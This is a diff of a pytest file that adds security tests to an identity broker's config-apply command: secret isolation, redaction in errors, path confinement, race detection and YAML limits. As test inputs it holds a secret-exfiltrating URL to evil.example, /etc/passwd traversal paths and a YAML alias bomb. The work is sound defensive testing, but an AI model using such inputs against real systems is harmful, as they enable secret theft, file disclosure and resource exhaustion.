@@ -43,8 +43,9 @@ def conf(tmp_path: Path) -> Path:
 
 
 @pytest.fixture
-def env() -> dict[str, str]:
-    return dict(SECRETS)
+def env(tmp_path: Path) -> dict[str, str]:
+    """The secrets, and BROKER_CONFIG_ROOT: the examples' metadata lives beside config/, not inside it."""
+    return {**SECRETS, "BROKER_CONFIG_ROOT": str(tmp_path)}
 
 
 def run(svc: Services, conf: Path, env: dict[str, str], **kw: Any) -> ApplyResult:
@@ -435,7 +436,7 @@ def test_missing_or_empty_directory(svc: Services, tmp_path: Path, env: dict[str
 def test_cli_end_to_end(
     database_url: str, conf: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    for k, v in {**make_env(database_url), **SECRETS}.items():
+    for k, v in {**make_env(database_url), **SECRETS, "BROKER_CONFIG_ROOT": str(conf.parent.parent)}.items():
         monkeypatch.setenv(k, v)
 
     assert main(["config", "apply", str(conf), "--dry-run"]) == 0
@@ -483,8 +484,7 @@ def test_an_idp_initiated_connection_must_name_an_app_and_redirect_uri_that_work
     edit(google, "idp_initiated_app: initech-tps", "idp_initiated_app: acme-portal")  # another tenant's app
     with pytest.raises(ConfigFileError) as err:
         run(svc, conf, env)
-    assert "saml.idp_initiated_app: saml.idp_initiated_app 'acme-portal' is not an app of this tenant" \
-        in err.value.message
+    assert "saml.idp_initiated_app: 'acme-portal' is not an app of this tenant" in err.value.message
     edit(google, "idp_initiated_app: acme-portal", "idp_initiated_app: initech-tps")
     edit(google, "https://tps.initech.example/elsewhere", "https://tps.initech.example/callback")
     run(svc, conf, env)  # the app the same file creates, at one of its redirect URIs
@@ -492,3 +492,374 @@ def test_an_idp_initiated_connection_must_name_an_app_and_redirect_uri_that_work
     assert initech is not None
     conn = svc.config.connection(initech.id, "google")
     assert conn is not None and conn.settings["idp_initiated_app"] == "initech-tps"
+
+
+# -- the environment: the broker's secrets are never readable, BROKER_CONFIG_ENV_ALLOW, no value in errors ----
+
+
+def one_file(tmp_path: Path, text: str, name: str = "zed.yaml") -> Path:
+    """A config directory holding one file."""
+    d = tmp_path / "solo"
+    d.mkdir(exist_ok=True)
+    (d / name).write_text(text)
+    return d
+
+
+OIDC_ZED = ("tenants: [{{slug: zed, name: Zed, connections: [{{slug: c, protocol: oidc, oidc: {{issuer:"
+            " 'https://idp.zed.example', client_id: zed, {secret}}}}}]}}]\n")
+APP_ZED = ("tenants: [{{slug: zed, name: Zed, apps: [{{client_id: zed-app, name: Z,"
+           " redirect_uris: ['https://z.example/cb'], {secret}}}]}}]\n")
+SECRET_VALUE = "the-real-secret-key-0123456789abcdefghijklmnop"
+DENIED = ("BROKER_SECRET_KEY", "BROKER_SECRET_KEY_PREVIOUS", "BROKER_BOOTSTRAP_ADMIN_KEY", "BROKER_METRICS_TOKEN",
+          "DATABASE_URL", "REDIS_URL")
+
+
+@pytest.mark.parametrize("name", DENIED)
+@pytest.mark.parametrize("how", ["tenant_name", "metadata_url", "oidc_secret_env", "app_secret_env"])
+def test_the_brokers_own_secrets_cannot_be_read_from_a_config_file(
+    svc: Services, tmp_path: Path, env: dict[str, str], name: str, how: str
+) -> None:
+    text = {
+        "tenant_name": f"tenants: [{{slug: zed, name: 'Zed ${{{name}}}'}}]\n",
+        "metadata_url": ("tenants: [{slug: zed, name: Zed, connections: [{slug: c, protocol: saml,"
+                         f" saml: {{metadata_url: 'https://evil.example/${{{name}}}'}}}}]}}]\n"),
+        "oidc_secret_env": OIDC_ZED.format(secret=f"client_secret_env: {name}"),
+        "app_secret_env": APP_ZED.format(secret=f"client_secret_env: {name}"),
+    }[how]
+    fetched: list[str] = []
+    svc.admin.fetch_metadata = lambda url: fetched.append(url) or b""  # type: ignore[func-returns-value]
+    env[name] = SECRET_VALUE
+    with pytest.raises(ConfigFileError) as err:
+        run(svc, one_file(tmp_path, text), env, dry_run=True)
+    assert f"environment variable {name} holds a secret of the broker itself" in err.value.message
+    assert "zed.yaml: tenants[0]." in err.value.message
+    assert SECRET_VALUE not in err.value.message and SECRET_VALUE not in str(err.value.details)
+    assert fetched == [], "nothing was fetched with the secret in its URL"
+    assert svc.config.tenants() == []
+
+
+def test_config_env_allow_limits_the_names_files_may_read(
+    svc: Services, conf: Path, env: dict[str, str]
+) -> None:
+    env["BROKER_CONFIG_ENV_ALLOW"] = "ACME_*, GLOBEX_INTRANET_CLIENT_SECRET"
+    with pytest.raises(ConfigFileError) as err:
+        run(svc, conf, env)
+    assert err.value.message == (  # entra-id.yaml comes first, and names CONTOSO_HR_CLIENT_SECRET
+        f"{conf / 'entra-id.yaml'}: tenants[0].apps[0].client_secret_env: environment variable "
+        "CONTOSO_HR_CLIENT_SECRET is not allowed by BROKER_CONFIG_ENV_ALLOW "
+        "(ACME_*, GLOBEX_INTRANET_CLIENT_SECRET)")
+    for f in ("entra-id.yaml", "google.yaml"):
+        (conf / f).unlink()
+    assert {c.name for c in run(svc, conf, env).changes} >= {"acme/acme-portal", "globex/globex-intranet"}
+    env["BROKER_CONFIG_ENV_ALLOW"] = "BROKER_*"  # an allow-list cannot open the denied names
+    env["BROKER_SECRET_KEY"] = SECRET_VALUE
+    path = one_file(conf.parent, "tenants: [{slug: zed, name: '${BROKER_SECRET_KEY}'}]\n")
+    with pytest.raises(ConfigFileError, match="BROKER_SECRET_KEY holds a secret of the broker itself"):
+        run(svc, path, env)
+
+
+@pytest.mark.parametrize("case", ["redirect_uri", "domain", "tenant_name", "short_secret", "duplicate_client_id"])
+def test_errors_never_show_a_value_read_from_the_environment(
+    svc: Services, tmp_path: Path, env: dict[str, str], case: str
+) -> None:
+    leak = "Sup3r Secret Value/with#frag"
+    env["LEAK"] = leak
+    text, where, expected = {
+        "redirect_uri": (
+            "tenants: [{slug: zed, name: Zed, apps: [{client_id: zed-app, name: Z, public: true,"
+            " redirect_uris: ['https://ok.example/cb', 'https://zed.example/${LEAK}']}]}]\n",
+            "tenants[0].apps[0].redirect_uris", "invalid value (from ${LEAK}; the problem is not shown"),
+        "domain": (
+            "tenants: [{slug: zed, name: Zed, connections: [{slug: c, protocol: saml, domains: ['${LEAK}']}]}]\n",
+            "tenants[0].connections[0].domains", "invalid value (from ${LEAK}"),
+        "tenant_name": (
+            "tenants: [{slug: zed, name: \"${LEAK}\\u202e\"}]\n",
+            "tenants[0].name", "Value error, must not contain control or text-direction override characters"
+                               " (from ${LEAK})"),
+        "short_secret": (
+            APP_ZED.format(secret="client_secret_env: LEAK"), "tenants[0].apps[0].client_secret_env",
+            "String should have at least 32 characters (from environment variable LEAK)"),
+        "duplicate_client_id": (
+            "tenants: [{slug: zed, name: Zed, apps: [{client_id: 'z${CID}', name: Z, public: true,"
+            " redirect_uris: ['https://z.example/cb']}, {client_id: 'z${CID}', name: Z2, public: true,"
+            " redirect_uris: ['https://z.example/cb2']}]}]\n",
+            "tenants[0].apps[1].client_id",
+            "client_id 'z${CID}' is already defined at"),
+    }[case]
+    env["CID"] = "-secret-client-id"
+    with pytest.raises(ConfigFileError) as err:
+        run(svc, one_file(tmp_path, text), env)
+    assert err.value.path == where
+    assert expected in err.value.problem, err.value.problem
+    for shown in (err.value.message, str(err.value.details)):
+        assert leak not in shown and "Sup3r" not in shown.replace("${LEAK}", "") and "sup3r" not in shown.lower()
+        assert "-secret-client-id" not in shown
+
+
+def test_an_unset_allow_list_keeps_other_variables_and_the_demo_applies(
+    svc: Services, tmp_path: Path
+) -> None:
+    """`broker demo` applies config/demo.yaml with ${BROKER_PUBLIC_URL} and BROKER_DEMO_OIDC_CLIENT_SECRET."""
+    demo = tmp_path / "demo.yaml"
+    shutil.copy(ROOT / "config" / "demo.yaml", demo)
+    svc.admin.fetch_metadata = lambda url: (ROOT / "metadata" / "okta-acme.xml").read_bytes()
+    env = {"BROKER_PUBLIC_URL": "http://127.0.0.1:9", "BROKER_DEMO_OIDC_CLIENT_SECRET": "x" * 40,
+           "BROKER_SECRET_KEY": SECRET_VALUE}
+    result = apply_config(svc.admin, demo, env=env, dry_run=True)
+    assert "+ connection demo/dev-oidc" in lines(result)
+
+
+# -- metadata_file: inside the config directory, a regular file, at most the metadata size limit -------------
+
+
+SAML_ZED = ("tenants: [{{slug: zed, name: Zed, connections: [{{slug: c, protocol: saml,"
+            " saml: {{metadata_file: '{ref}'}}}}]}}]\n")
+
+
+def test_metadata_file_must_stay_inside_the_config_directory(svc: Services, tmp_path: Path) -> None:
+    outside = tmp_path / "outside.xml"
+    shutil.copy(ROOT / "metadata" / "okta-acme.xml", outside)
+    d = one_file(tmp_path, "")
+    (d / "link.xml").symlink_to(outside)
+    shutil.copy(outside, d / "inside.xml")
+    for ref in ("../outside.xml", str(outside), "link.xml", "../../../../../../../../etc/passwd", "/etc/passwd"):
+        (d / "zed.yaml").write_text(SAML_ZED.format(ref=ref))
+        with pytest.raises(ConfigFileError) as err:
+            run(svc, d, {})
+        assert err.value.path == "tenants[0].connections[0].saml.metadata_file"
+        assert f"{ref} is outside {d.resolve()}" in err.value.problem, err.value.problem
+        assert "root:" not in err.value.message
+    (d / "zed.yaml").write_text(SAML_ZED.format(ref="inside.xml"))
+    assert lines(run(svc, d, {})) == ["+ tenant zed", "+ connection zed/c"]
+    (d / "zed.yaml").write_text(SAML_ZED.format(ref="../outside.xml"))  # BROKER_CONFIG_ROOT widens it
+    assert lines(run(svc, d, {"BROKER_CONFIG_ROOT": str(tmp_path)})) == []  # the same document: no change
+
+
+def test_metadata_file_must_be_a_regular_file_of_bounded_size(svc: Services, tmp_path: Path) -> None:
+    import os
+    import signal
+
+    d = one_file(tmp_path, "")
+    os.mkfifo(d / "fifo.xml")
+    (d / "big.xml").write_text((ROOT / "metadata" / "okta-acme.xml").read_text() + " " * 5000)
+    svc.admin.max_metadata_bytes = 4000
+    cases = {"fifo.xml": (d, "cannot read fifo.xml: not a regular file"),
+             "/dev/zero": (Path("/"), "cannot read /dev/zero: not a regular file"),
+             "big.xml": (d, "big.xml is larger than 4000 bytes")}
+    signal.signal(signal.SIGALRM, lambda *_: pytest.fail("reading the metadata file hung"))
+    try:
+        for ref, (root, expected) in cases.items():
+            (d / "zed.yaml").write_text(SAML_ZED.format(ref=ref))
+            signal.alarm(10)
+            with pytest.raises(ConfigFileError) as err:
+                run(svc, d, {"BROKER_CONFIG_ROOT": str(root)})
+            signal.alarm(0)
+            assert err.value.problem == expected
+    finally:
+        signal.alarm(0)
+        signal.signal(signal.SIGALRM, signal.SIG_DFL)
+
+
+# -- apply and the admin API at the same time: the tenant lock, and nothing planned on may change ------------
+
+
+def between_plan_and_write(monkeypatch: pytest.MonkeyPatch, action: Any) -> None:
+    """Run `action` in another thread (its own transaction) after apply has planned, before it writes."""
+    import threading
+
+    from broker.admin import apply as apply_module
+
+    plan = apply_module._Planner.plan  # noqa: SLF001
+
+    def plan_then_interleave(self: Any, tenants: Any) -> Any:
+        ops = plan(self, tenants)
+        failure: list[BaseException] = []
+
+        def target() -> None:
+            try:
+                action()
+            except BaseException as exc:  # noqa: BLE001 - reported below, in the test's thread
+                failure.append(exc)
+        t = threading.Thread(target=target)
+        t.start()
+        t.join(30)
+        assert not t.is_alive() and not failure, failure
+        return ops
+
+    monkeypatch.setattr(apply_module._Planner, "plan", plan_then_interleave)  # noqa: SLF001
+
+
+def test_an_api_patch_between_plan_and_write_is_not_overwritten(
+    svc: Services, conf: Path, env: dict[str, str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    run(svc, conf, env)
+    key = svc.admin.authenticate("Bearer test-bootstrap-admin-key-0123456789")
+    edit(conf / "okta.yaml", "default: member", "default: staff")
+    between_plan_and_write(monkeypatch, lambda: svc.admin.patch_connection(key, "acme", "okta", {"enabled": False}))
+    with pytest.raises(ConfigFileError) as err:
+        run(svc, conf, env)
+    assert err.value.message == (f"{conf / 'okta.yaml'}: tenants[0]: connection acme/okta was changed by someone "
+                                 "else since this apply read it; nothing was written: run config apply again")
+    acme = svc.config.tenant_by_slug("acme")
+    assert acme is not None
+    okta = svc.config.connection(acme.id, "okta")
+    assert okta is not None and okta.enabled is False, "the API's change stands"
+    assert okta.mapping.rules[1]["default"] == "member", "and the file's was not written"
+    monkeypatch.undo()
+    assert lines(run(svc, conf, env)) == ["~ connection acme/okta: enabled, mapping.rules"]  # re-run: applies
+
+
+def test_a_domain_taken_through_the_api_between_plan_and_write_is_not_claimed_twice(
+    svc: Services, conf: Path, env: dict[str, str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    run(svc, conf, env)
+    key = svc.admin.authenticate("Bearer test-bootstrap-admin-key-0123456789")
+    acme = svc.config.tenant_by_slug("acme")
+    assert acme is not None
+    edit(conf / "okta.yaml", "      - slug: okta-oidc\n", "      - slug: okta-oidc\n        domains: [new.example]\n")
+    between_plan_and_write(monkeypatch, lambda: svc.admin.create_connection(
+        key, acme, {"slug": "rogue", "protocol": "saml", "domains": ["new.example"]}))
+    with pytest.raises(ConfigFileError) as err:
+        run(svc, conf, env)
+    assert "connection acme/rogue was created by someone else since this apply read it" in err.value.message
+    owners = [c.slug for c in svc.config.connections(acme.id) if "new.example" in c.domains]
+    assert owners == ["rogue"]
+
+
+def test_a_tenant_renamed_or_created_between_plan_and_write_refuses_the_apply(
+    svc: Services, conf: Path, env: dict[str, str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    run(svc, conf, env)
+    key = svc.admin.authenticate("Bearer test-bootstrap-admin-key-0123456789")
+    edit(conf / "okta.yaml", "name: Acme Corp", "name: Acme Corporation")
+    between_plan_and_write(monkeypatch, lambda: svc.admin.patch_tenant(key, "acme", {"name": "Acme API"}))
+    with pytest.raises(ConfigFileError, match="tenant acme was changed by someone else since this apply read it"):
+        run(svc, conf, env)
+    acme = svc.config.tenant_by_slug("acme")
+    assert acme is not None and acme.name == "Acme API"
+    monkeypatch.undo()
+    (conf / "zed.yaml").write_text("tenants: [{slug: zed, name: Zed}]\n")
+    between_plan_and_write(monkeypatch, lambda: svc.admin.create_tenant(key, {"slug": "zed", "name": "Zed API"}))
+    with pytest.raises(ConfigFileError) as err:
+        run(svc, conf, env)
+    assert err.value.message == (f"{conf / 'zed.yaml'}: tenants[0].slug: tenant zed was created by someone else "
+                                 "since this apply read it; nothing was written: run config apply again")
+    assert svc.config.tenant_by_slug("acme").name == "Acme API"  # type: ignore[union-attr]
+
+
+# -- warnings: what the admin API would warn of, printed with the plan ----------------------------------------
+
+
+def test_the_admin_apis_warnings_are_printed_with_the_plan(
+    svc: Services, tmp_path: Path, env: dict[str, str]
+) -> None:
+    from datetime import UTC, datetime, timedelta
+
+    from tests.samlxml.test_metadata import doc, entity, key_descriptor, make_cert
+
+    now = datetime.now(UTC)
+    expired = make_cert("old-idp", not_before=now - timedelta(days=400), not_after=now - timedelta(days=1))
+    d = one_file(tmp_path, SAML_ZED.format(ref="idp.xml"))
+    (d / "idp.xml").write_bytes(doc(entity(keys=key_descriptor(expired) + key_descriptor(make_cert("new-idp")))))
+    preview = run(svc, d, env, dry_run=True)
+    warning = "  ! connection zed/c: certificate_expired: CN=old-idp expired "
+    assert [line for line in preview.render().splitlines() if line.startswith("  !")][0].startswith(warning)
+    out = run(svc, d, env).render().splitlines()
+    assert out[:2] == ["+ tenant zed", "+ connection zed/c"] and out[2].startswith(warning)
+    assert run(svc, d, env).render() == "no changes"
+    edit(d / "zed.yaml", "metadata_file: 'idp.xml'", "metadata_file: 'idp.xml', sp_entity_id: 'urn:zed:sp'")
+    out = run(svc, d, env).render().splitlines()
+    assert out[0] == "~ connection zed/c: saml.sp_entity_id"
+    moved = [line for line in out if "connection_urls_changed" in line]
+    assert moved == ["  ! connection zed/c: connection_urls_changed: this change changed its SP entityID "
+                     "http://broker.test/t/zed/connections/c/saml/metadata -> urn:zed:sp; logins fail until the "
+                     "IdP's configuration for this SP is updated."]
+
+
+# -- YAML: sizes, depth, keys, and plain yes/no where a string is wanted ---------------------------------------
+
+
+YAML_REFUSED: dict[str, tuple[str, str]] = {
+    "long_string_behind_aliases": (  # 100 KB x 200 aliases = 20 MB of text in 203 values
+        "x: &x '" + "a" * 100_000 + "'\ny: [" + ", ".join(["*x"] * 200) + "]\n",
+        "invalid YAML: more than 16,777,216 characters once its aliases are expanded",
+    ),
+    "nested_500_deep": ("[" * 500 + "]" * 500 + "\n", "line 1, column 101: invalid YAML: nested more than 100"),
+    "complex_key": (
+        "tenants:\n  - ? [a, b]\n    : c\n",
+        "line 2, column 7: invalid YAML: a mapping key must be a plain value, not a list or a mapping",
+    ),
+    "recursive_alias": (
+        "x: &x [*x]\n", "line 1, column 4: invalid YAML: an alias refers to a collection that contains it"),
+    "no_in_a_rule": (
+        "tenants: [{slug: zed, name: Zed, connections: [{slug: c, protocol: saml, mapping: {rules:"
+        " [{op: map_values, from: groups, to: roles, table: {A: admin}, default: no}]}}]}]\n",
+        "tenants[0].connections[0].mapping.rules[0].default: YAML 1.1 reads a plain no as the boolean false: "
+        "write 'no' (quoted) for the text, or false for a boolean",
+    ),
+    "on_as_a_table_key": (
+        "tenants: [{slug: zed, name: Zed, connections: [{slug: c, protocol: saml, mapping: {rules:"
+        " [{op: map_values, from: groups, to: roles, table: {on: admin}}]}}]}]\n",
+        "tenants[0].connections[0].mapping.rules[0].table.on: YAML 1.1 reads a plain on as the boolean true",
+    ),
+    "number_as_tenant_name": (
+        "tenants: [{slug: zed, name: 1234}]\n",
+        "tenants[0].name: must be a string, and YAML read this as a number (1234): quote it (e.g. '1234')",
+    ),
+    "number_as_oidc_client_id": (
+        OIDC_ZED.replace("client_id: zed", "client_id: 123").format(secret="client_secret: s3cret"),
+        "tenants[0].connections[0].oidc.client_id: must be a string, and YAML read this as a number (123)",
+    ),
+    "yes_as_a_domain": (
+        "tenants: [{slug: zed, name: Zed, connections: [{slug: c, protocol: saml, domains: [yes]}]}]\n",
+        "tenants[0].connections[0].domains[0]: YAML 1.1 reads a plain yes as the boolean true",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", sorted(YAML_REFUSED))
+def test_yaml_that_would_mislead_or_exhaust_is_refused_with_its_place(
+    svc: Services, tmp_path: Path, env: dict[str, str], case: str
+) -> None:
+    import time
+
+    text, expected = YAML_REFUSED[case]
+    d = one_file(tmp_path, text)
+    started = time.process_time()
+    with pytest.raises(ConfigFileError) as err:
+        run(svc, d, env)
+    assert time.process_time() - started < 2.0
+    assert err.value.message.startswith(f"{d / 'zed.yaml'}: {expected}"), err.value.message
+    assert svc.config.tenants() == []
+
+
+def test_yes_and_no_are_booleans_in_boolean_fields_and_quoted_words_stay_words(
+    svc: Services, tmp_path: Path, env: dict[str, str]
+) -> None:
+    d = one_file(tmp_path, (
+        "tenants: [{slug: zed, name: Zed, connections: [{slug: c, protocol: saml, enabled: no,"
+        " restrict_to_domains: yes, domains: [zed.example], mapping: {rules: [{op: map_values, from: groups,"
+        " to: roles, table: {A: 'on'}, default: 'no'}]}}]}]\n"))
+    run(svc, d, env)
+    zed = svc.config.tenant_by_slug("zed")
+    assert zed is not None
+    c = svc.config.connection(zed.id, "c")
+    assert c is not None and c.enabled is False and c.restrict_to_domains is True
+    assert c.mapping.rules[0]["default"] == "no" and c.mapping.rules[0]["table"] == {"A": "on"}
+
+
+def test_a_message_that_names_its_field_does_not_repeat_it(
+    svc: Services, tmp_path: Path, env: dict[str, str]
+) -> None:
+    d = one_file(tmp_path, OIDC_ZED.replace("https://idp.zed.example", "ftp://idp.zed.example")
+                 .format(secret="client_secret: s3cret"))
+    with pytest.raises(ConfigFileError) as err:
+        run(svc, d, env)
+    assert err.value.path == "tenants[0].connections[0].oidc.issuer"
+    assert "oidc.issuer" not in err.value.problem, err.value.problem
+
+
+def test_upper_case_yaml_suffixes_are_read(svc: Services, tmp_path: Path, env: dict[str, str]) -> None:
+    d = one_file(tmp_path, "tenants: [{slug: zed, name: Zed}]\n", "ZED.YAML")
+    (d / "other.Yml").write_text("tenants: [{slug: other, name: Other}]\n")
+    assert lines(run(svc, d, env)) == ["+ tenant zed", "+ tenant other"]
